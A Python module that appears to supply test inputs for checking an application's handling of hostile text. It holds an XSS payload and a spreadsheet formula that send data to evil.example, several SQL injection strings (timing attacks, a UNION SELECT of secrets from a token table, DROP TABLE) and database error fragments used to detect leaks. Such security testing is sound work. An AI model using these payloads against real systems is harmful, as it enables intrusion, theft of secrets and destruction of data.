"""Texts that want to be something else, and how it is seen that one of them succeeded."""

from __future__ import annotations

__all__ = ["ABSTRACT", "FORMULA", "INJECTIONS", "MARKUP", "SLEEP", "TOLD_BY_SQL"]

# Short enough for a card of a FITS header.
MARKUP = '"><script src=//evil.example></script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"M 42")'
ABSTRACT = f"</td></textarea>{MARKUP} <a href='javascript:alert(1)'>{{{{7*7}}}}</a>\r\n\t{FORMULA}"

SLEEP = 9  # seconds that an injected statement would take
INJECTIONS = (
    "'",
    "nothing' OR 'a'='a",
    "nothing') OR ('a'='a",
    f"'; SELECT pg_sleep({SLEEP}); --",
    f"'||(SELECT pg_sleep({SLEEP}))||'",
    "' UNION SELECT name, secret FROM archive.token --",
    "\\' OR 1=1 --",
    '" OR ""="',
    "%s %(x)s %% {0} $1 :n ?",
    "$$;DROP TABLE dbo.raw;$$",
    "\N{MODIFIER LETTER APOSTROPHE}\N{FULLWIDTH APOSTROPHE}; OR 1=1",
    "a\0b",
    "1 2); --",
    "{1,2}'::text[]",
    "x" * 3000,
)
# What the database says, and nobody should be told.
TOLD_BY_SQL = (
    "syntax error at",
    "psycopg",
    "SQLSTATE",
    "unterminated",
    "LINE 1:",
    "PL/pgSQL",
    "internal error",
    "Traceback",
    "argon2id",
)
